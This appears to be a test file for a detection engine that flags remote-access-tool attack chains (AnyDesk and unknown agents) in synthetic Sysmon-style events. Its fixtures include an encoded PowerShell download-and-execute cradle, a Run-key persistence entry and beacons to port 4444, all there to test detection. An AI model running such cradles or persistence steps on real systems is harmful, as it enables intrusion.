// The DET0496 chain rules (SPEC §1), each as one small story told with plain RatEvent arrays.
// Every test states the chain it builds and the one finding (or none) it must give.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { builtinCatalog } from '../../src/catalog/index.ts';
import { type ConfigInput, configSchema, DEFAULT_INTERNAL_NETWORKS } from '../../src/config/schema.ts';
import { createEngine, type EngineStats } from '../../src/engine/engine.ts';
import { hunt } from '../../src/hunt.ts';
import type { RatEvent } from '../../src/model/event.ts';
import type { Finding, StepId } from '../../src/model/finding.ts';
import { REPO_ROOT } from '../support/data.ts';
import { at, byTime, conns, dns, fileCreate, proc, procEnd, regSet, service } from '../support/events.ts';

const catalog = builtinCatalog();

function run(events: RatEvent[], cfg: ConfigInput = {}): { findings: Finding[]; stats: EngineStats } {
  const engine = createEngine(configSchema.parse(cfg), catalog);
  for (const ev of events) engine.push(ev);
  const findings = engine.finish();
  return { findings, stats: engine.stats() };
}

function step(f: Finding, s: StepId) {
  const x = f.steps.find((y) => y.step === s);
  assert.ok(x, `finding has no ${s} step entry`);
  return x;
}

function seenSteps(f: Finding): StepId[] {
  return f.steps.filter((s) => s.seen).map((s) => s.step);
}

function codes(f: Finding): string[] {
  return f.reasons.map((r) => r.code);
}

/** One line per finding, for assertion messages. */
function describeFindings(fs: Finding[]): string {
  return fs
    .map((f) => `${f.host} ${f.agent.images.join('|')} [${seenSteps(f).join(',')}] ${f.status}`)
    .join('\n');
}

// ---- the actors ------------------------------------------------------------------------
const EXPLORER = 'C:\\Windows\\explorer.exe';
const SERVICES = 'C:\\Windows\\System32\\services.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const PORTABLE = 'C:\\Users\\alice\\Downloads\\AnyDesk.exe';
const INSTALLED = 'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe';
const ANYDESK_META = {
  originalFileName: 'AnyDesk.exe',
  product: 'AnyDesk',
  company: 'AnyDesk Software GmbH',
};
const H = 'a'.repeat(62) + '01';
const RELAY = '203.0.113.50'; // public address (TEST-NET-3 is not in the internal defaults)

/**
 * The whole AnyDesk story on one host: the portable copy starts from Downloads (S1), a service
 * is installed that runs the Program Files copy (S2), the agent calls its relay five times (S3)
 * and spawns cmd.exe (S4).
 */
function anydeskChain(host = 'WS01.corp.example'): RatEvent[] {
  return byTime(
    proc({
      host,
      at: at(0),
      guid: '{A-portable}',
      image: PORTABLE,
      parentGuid: '{explorer}',
      parentImage: EXPLORER,
      user: 'CORP\\alice',
      integrity: 'Medium',
      meta: ANYDESK_META,
    }),
    service({ host, at: at(1), name: 'AnyDesk', command: `"${INSTALLED}" --service` }),
    conns({ host, at: at(2), guid: '{A-portable}', image: PORTABLE, dstIp: RELAY, dstPort: 443, n: 5 }),
    proc({
      host,
      at: at(5),
      guid: '{cmd-1}',
      image: CMD,
      parentGuid: '{A-portable}',
      parentImage: PORTABLE,
      commandLine: 'cmd.exe /c whoami',
    }),
  );
}

describe('engine: the DET0496 chain on plain events', () => {
  test('a full AnyDesk chain on one host is ONE 4-step alert named AnyDesk, flagged temp_path', () => {
    const { findings } = run(anydeskChain());
    assert.equal(findings.length, 1, `expected one finding, got:\n${describeFindings(findings)}`);
    const f = findings[0];
    assert.equal(f.status, 'alert');
    assert.equal(f.stepCount, 4);
    assert.deepEqual(seenSteps(f), ['execution', 'persistence', 'egress', 'control']);
    assert.equal(f.agent.tool?.name, 'AnyDesk');
    assert.ok(codes(f).includes('temp_path'), `reasons: ${codes(f).join(', ')}`);
    assert.equal(f.analytic, 'AN1366');
    assert.ok(f.egress.some((d) => d.ip === RELAY && d.connections >= 5));
    assert.ok(f.inOrder, 'start, persistence, egress, child happened in canonical order');
    assert.deepEqual(f.missing, []);
  });

  test('a renamed binary (setup.exe whose OriginalFileName is AnyDesk.exe) is named AnyDesk, reason renamed', () => {
    const SETUP = 'C:\\Users\\x\\Downloads\\setup.exe';
    const { findings } = run(
      byTime(
        proc({
          at: at(0),
          guid: '{S}',
          image: SETUP,
          parentGuid: '{explorer}',
          parentImage: EXPLORER,
          meta: ANYDESK_META,
        }),
        conns({ at: at(1), guid: '{S}', image: SETUP, dstIp: RELAY, n: 5 }),
        proc({ at: at(4), guid: '{c}', image: CMD, parentGuid: '{S}', parentImage: SETUP }),
      ),
    );
    assert.equal(findings.length, 1, describeFindings(findings));
    const f = findings[0];
    assert.equal(f.agent.tool?.name, 'AnyDesk');
    assert.equal(f.agent.tool?.by, 'original_file_name');
    assert.ok(codes(f).includes('renamed'), `reasons: ${codes(f).join(', ')}`);
    assert.match(f.reasons.find((r) => r.code === 'renamed')!.text, /setup\.exe/i);
  });

  test('portable copy writes the installed copy; the service runs it: ONE finding with both images, link explained', () => {
    const events = byTime(
      proc({
        at: at(0),
        guid: '{P}',
        image: PORTABLE,
        parentGuid: '{explorer}',
        parentImage: EXPLORER,
        sha256: H,
        meta: ANYDESK_META,
      }),
      fileCreate({ at: at(0, 20), guid: '{P}', image: PORTABLE, path: INSTALLED }),
      service({ at: at(0, 30), name: 'AnyDesk', command: `"${INSTALLED}" --service` }),
      proc({
        at: at(0, 31),
        guid: '{I}',
        image: INSTALLED,
        parentGuid: '{services}',
        parentImage: SERVICES,
        commandLine: `"${INSTALLED}" --service`,
        sha256: H,
        meta: ANYDESK_META,
      }),
      conns({ at: at(1), guid: '{I}', image: INSTALLED, dstIp: RELAY, n: 5 }),
      proc({ at: at(4), guid: '{c}', image: CMD, parentGuid: '{I}', parentImage: INSTALLED }),
    );
    const { findings } = run(events);
    assert.equal(findings.length, 1, `expected one agent, got:\n${describeFindings(findings)}`);
    const f = findings[0];
    assert.equal(f.stepCount, 4);
    assert.ok(f.agent.images.includes(PORTABLE), `images: ${f.agent.images.join(', ')}`);
    assert.ok(f.agent.images.includes(INSTALLED), `images: ${f.agent.images.join(', ')}`);
    assert.ok(f.agent.links.length > 0, 'agent.links must say why the two images are one agent');
    assert.ok(
      f.agent.links.some((l) => /written|wrote|hash/i.test(l)),
      `links should name the write or the shared hash: ${f.agent.links.join(' | ')}`,
    );
    assert.ok(f.agent.hashes.some((h) => h.endsWith(H)));
  });

  describe('allowlists down-weight but never blind', () => {
    const HELPDESK = 'HELPDESK01';
    const approved: ConfigInput = {
      ProcessAllowlist: [{ tool: 'anydesk', hosts: ['^helpdesk'], paths: ['^c:\\\\program files'] }],
      ExternalIPAllowlist: { presets: ['anydesk'] },
    };

    test('approved AnyDesk, on its approved host, from Program Files, talking to its relays: suppressed', () => {
      const events = byTime(
        service({ host: HELPDESK, at: at(0), name: 'AnyDesk', command: `"${INSTALLED}" --service` }),
        proc({
          host: HELPDESK,
          at: at(0, 5),
          guid: '{I}',
          image: INSTALLED,
          parentGuid: '{services}',
          parentImage: SERVICES,
          meta: ANYDESK_META,
        }),
        dns({
          host: HELPDESK,
          at: at(0, 10),
          guid: '{I}',
          image: INSTALLED,
          query: 'relay-1.net.anydesk.com',
          answers: [RELAY],
        }),
        conns({ host: HELPDESK, at: at(0, 11), guid: '{I}', image: INSTALLED, dstIp: RELAY, n: 6 }),
        proc({
          host: HELPDESK,
          at: at(3),
          guid: '{c}',
          image: CMD,
          parentGuid: '{I}',
          parentImage: INSTALLED,
        }),
      );
      const { findings, stats } = run(events, approved);
      assert.ok(
        stats.allowlistedConnections >= 6,
        'the relay connections were recognised as vendor infrastructure',
      );
      assert.equal(findings.length, 1, describeFindings(findings));
      const f = findings[0];
      assert.equal(f.status, 'suppressed');
      assert.equal(f.severity, 'info');
      assert.match(f.agent.approvedBy ?? '', /ProcessAllowlist\[0\]/);
      assert.ok(codes(f).includes('allowlisted'));
    });

    test('the same approved tool from a temp path, spawning encoded PowerShell: alert, approved_but_anomalous', () => {
      const TEMP = 'C:\\Users\\tech\\AppData\\Local\\Temp\\AnyDesk.exe';
      const enc = Buffer.from(
        'IEX (New-Object Net.WebClient).DownloadString("http://x")',
        'utf16le',
      ).toString('base64');
      const events = byTime(
        proc({
          host: HELPDESK,
          at: at(0),
          guid: '{T}',
          image: TEMP,
          parentGuid: '{e}',
          parentImage: EXPLORER,
          meta: ANYDESK_META,
        }),
        regSet({
          host: HELPDESK,
          at: at(0, 30),
          guid: '{T}',
          image: TEMP,
          key: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\AnyDesk',
          data: `"${TEMP}" --tray`,
        }),
        dns({
          host: HELPDESK,
          at: at(1),
          guid: '{T}',
          image: TEMP,
          query: 'relay-1.net.anydesk.com',
          answers: [RELAY],
        }),
        conns({ host: HELPDESK, at: at(1, 1), guid: '{T}', image: TEMP, dstIp: RELAY, n: 5 }),
        proc({
          host: HELPDESK,
          at: at(3),
          guid: '{ps}',
          image: POWERSHELL,
          parentGuid: '{T}',
          parentImage: TEMP,
          commandLine: `powershell.exe -enc ${enc}`,
        }),
      );
      const { findings } = run(events, approved);
      assert.equal(findings.length, 1, describeFindings(findings));
      const f = findings[0];
      assert.equal(f.status, 'alert');
      const r = f.reasons.find((x) => x.code === 'approved_but_anomalous');
      assert.ok(r, `reasons: ${codes(f).join(', ')}`);
      assert.match(r.text, /outside the approved paths|temporary path/);
      assert.match(r.text, /suspicious child/);
      assert.ok(codes(f).includes('suspicious_child'));
    });
  });

  test('steps 20 minutes apart never share a 15-minute window: no finding at MinSteps 3', () => {
    const A = 'C:\\Users\\bob\\Downloads\\AnyDesk.exe';
    const events = byTime(
      proc({
        at: at(0),
        guid: '{A}',
        image: A,
        parentGuid: '{e}',
        parentImage: EXPLORER,
        meta: ANYDESK_META,
      }),
      service({ at: at(20), name: 'AnyDesk', command: `"${A}" --service` }),
      conns({ at: at(40), guid: '{A}', image: A, dstIp: RELAY, n: 5, everySec: 10 }),
      proc({ at: at(60), guid: '{c}', image: CMD, parentGuid: '{A}', parentImage: A }),
    );
    const narrow = run(events, { TimeWindow: '15m', MinSteps: 3 });
    assert.deepEqual(
      narrow.findings.map((f) => f.stepCount),
      [],
      describeFindings(narrow.findings),
    );
    // The control: a window wide enough to hold them all sees the same events as one 4-step chain.
    const wide = run(events, { TimeWindow: '90m', MinSteps: 3 });
    assert.deepEqual(
      wide.findings.map((f) => f.stepCount),
      [4],
      describeFindings(wide.findings),
    );
  });

  test('an unknown binary still alerts on behaviour (no catalogue match needed)', () => {
    const X = 'C:\\Users\\bob\\AppData\\Roaming\\Zq\\zqsync.exe';
    const { findings } = run(
      byTime(
        proc({ at: at(0), guid: '{X}', image: X, parentGuid: '{e}', parentImage: EXPLORER }),
        conns({ at: at(1), guid: '{X}', image: X, dstIp: '198.51.100.77', dstPort: 8443, n: 5 }),
        proc({
          at: at(2),
          guid: '{c}',
          image: CMD,
          parentGuid: '{X}',
          parentImage: X,
          commandLine: 'cmd.exe /c ipconfig /all',
        }),
      ),
    );
    assert.equal(findings.length, 1, describeFindings(findings));
    const f = findings[0];
    assert.equal(f.agent.tool, undefined);
    assert.equal(f.status, 'alert');
    assert.equal(f.stepCount, 3);
    assert.ok(codes(f).includes('unknown_tool'));
  });

  describe('PID reuse (Linux: pid, ppid and time only)', () => {
    const LX = 'lnx-07';
    const AGENT = '/tmp/.cache/rsync-helper';
    const OTHER = '/usr/lib/postfix/sbin/pickup';
    /** The agent (pid 4242) beacons, spawns one shell, exits; later an unrelated program gets pid 4242. */
    function story(withExit: boolean): RatEvent[] {
      return byTime(
        proc({
          host: LX,
          platform: 'linux',
          at: at(0),
          pid: 4242,
          parentPid: 1,
          image: AGENT,
          commandLine: AGENT,
        }),
        conns({
          host: LX,
          platform: 'linux',
          at: at(0, 10),
          pid: 4242,
          dstIp: '198.51.100.9',
          dstPort: 4444,
          n: 5,
          everySec: 10,
        }),
        proc({
          host: LX,
          platform: 'linux',
          at: at(1, 30),
          pid: 5001,
          parentPid: 4242,
          image: '/bin/sh',
          commandLine: 'sh -c id',
        }),
        withExit ? [procEnd({ host: LX, platform: 'linux', at: at(2), pid: 4242 })] : [],
        proc({
          host: LX,
          platform: 'linux',
          at: at(4),
          pid: 4242,
          parentPid: 1,
          image: OTHER,
          commandLine: 'pickup -l -t unix -u',
        }),
        proc({
          host: LX,
          platform: 'linux',
          at: at(5),
          pid: 5002,
          parentPid: 4242,
          image: '/bin/sh',
          commandLine: 'sh -c /usr/sbin/sendmail -t',
        }),
        proc({
          host: LX,
          platform: 'linux',
          at: at(6),
          pid: 5003,
          parentPid: 4242,
          image: '/bin/bash',
          commandLine: 'bash -i',
        }),
      );
    }
    for (const withExit of [true, false]) {
      test(`the second process's children are not the first's${withExit ? '' : ' (exit never recorded)'}`, () => {
        const { findings } = run(story(withExit));
        const mine = findings.filter((f) => f.agent.images.includes(AGENT));
        assert.equal(mine.length, 1, describeFindings(findings));
        const f = mine[0];
        assert.equal(f.analytic, 'AN1367');
        const control = step(f, 'control');
        assert.equal(control.count, 1, `only sh -c id belongs to the agent: ${control.summary}`);
        assert.ok(!/sendmail|bash -i/.test(control.summary), control.summary);
        assert.ok(
          !findings.some((x) => x.agent.images.includes(OTHER)),
          `the unrelated process must not inherit the agent: ${describeFindings(findings)}`,
        );
      });
    }
  });

  test('internal destinations are not egress unless carved out ("!10.10.10.5/32")', () => {
    const X = 'C:\\Users\\bob\\Downloads\\launcher.exe';
    const events = byTime(
      proc({ at: at(0), guid: '{X}', image: X, parentGuid: '{e}', parentImage: EXPLORER }),
      conns({
        at: at(1),
        guid: '{X}',
        image: X,
        srcIp: '10.10.10.20',
        dstIp: '10.10.10.5',
        dstPort: 80,
        n: 8,
      }),
      proc({ at: at(3), guid: '{c}', image: CMD, parentGuid: '{X}', parentImage: X }),
    );
    const plain = run(events);
    assert.equal(plain.findings.length, 0, describeFindings(plain.findings));
    assert.ok(plain.stats.internalConnections >= 8);
    const carved = run(events, { InternalNetworks: [...DEFAULT_INTERNAL_NETWORKS, '!10.10.10.5/32'] });
    assert.equal(carved.findings.length, 1, describeFindings(carved.findings));
    assert.ok(step(carved.findings[0], 'egress').seen);
    assert.deepEqual(
      carved.findings[0].egress.map((d) => d.ip),
      ['10.10.10.5'],
    );
  });

  test('the same input twice gives the same finding id (and evidence positions do not change it)', () => {
    const a = run(anydeskChain()).findings;
    const b = run(anydeskChain()).findings; // the factory numbers lines on, so sources differ
    assert.equal(a.length, 1);
    assert.equal(b.length, 1);
    assert.match(a[0].id, /^[0-9a-f]{16,}$/);
    assert.equal(a[0].id, b[0].id);
    const other = run(anydeskChain('WS02')).findings;
    assert.notEqual(other[0]?.id, a[0].id, 'another host is another chain');
  });

  test('bounded state: 20 agents with AgentsPerHost 4 evict, count it, and lose no finished chain', () => {
    const events: RatEvent[] = [];
    for (let i = 0; i < 20; i++) {
      const img = `C:\\Users\\bob\\Downloads\\tool${i}.exe`;
      const g = `{T${i}}`;
      events.push(
        proc({ at: at(i, 0), guid: g, image: img, parentGuid: '{e}', parentImage: EXPLORER }),
        ...conns({ at: at(i, 5), guid: g, image: img, dstIp: `198.51.100.${i + 1}`, n: 5, everySec: 5 }),
        proc({ at: at(i, 40), guid: `{c${i}}`, image: CMD, parentGuid: g, parentImage: img }),
      );
    }
    const { findings, stats } = run(events, { Limits: { AgentsPerHost: 4 } });
    assert.ok(stats.agentsEvicted > 0, `agentsEvicted = ${stats.agentsEvicted}`);
    assert.ok(
      stats.agentsEvicted >= 16,
      `20 agents through 4 slots evict at least 16, got ${stats.agentsEvicted}`,
    );
    assert.equal(findings.length, 20, 'an evicted agent whose chain was complete is still reported');
    assert.ok(findings.every((f) => f.stepCount === 3));
  });
});

// ---- out-of-order inputs, through hunt() ------------------------------------------------
describe('hunt(): inputs interleaved in time', () => {
  const fixture = join(REPO_ROOT, 'test', 'fixtures', 'windows', 'sysmon-anydesk.xml');

  test('two files whose events interleave give the same findings as the merged file', async () => {
    const lines = readFileSync(fixture, 'utf8')
      .split('\n')
      .filter((l) => l.includes('<Event'));
    assert.ok(lines.length >= 8, 'fixture has events');
    const dir = mkdtempSync(join(tmpdir(), 'ratchain-ooo-'));
    try {
      const even = join(dir, 'part-a.xml');
      const odd = join(dir, 'part-b.xml');
      writeFileSync(even, `${lines.filter((_, i) => i % 2 === 0).join('\n')}\n`);
      writeFileSync(odd, `${lines.filter((_, i) => i % 2 === 1).join('\n')}\n`);
      const config = configSchema.parse({});
      const whole = await hunt({ paths: [fixture], config, catalog });
      const split = await hunt({ paths: [odd, even], config, catalog }); // later-starting file first
      const view = (fs: Finding[]) =>
        fs.map((f) => ({
          id: f.id,
          status: f.status,
          host: f.host,
          stepCount: f.stepCount,
          steps: f.steps.map((s) => [s.step, s.seen, s.count, s.first, s.last]),
          images: [...f.agent.images].sort(),
          score: f.score,
        }));
      assert.ok(whole.findings.length >= 1, 'the fixture holds a chain');
      assert.deepEqual(view(split.findings), view(whole.findings));
      assert.equal(split.summary.events, whole.summary.events);
      assert.equal(split.summary.late, 0, 'interleaving across files is not lateness');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
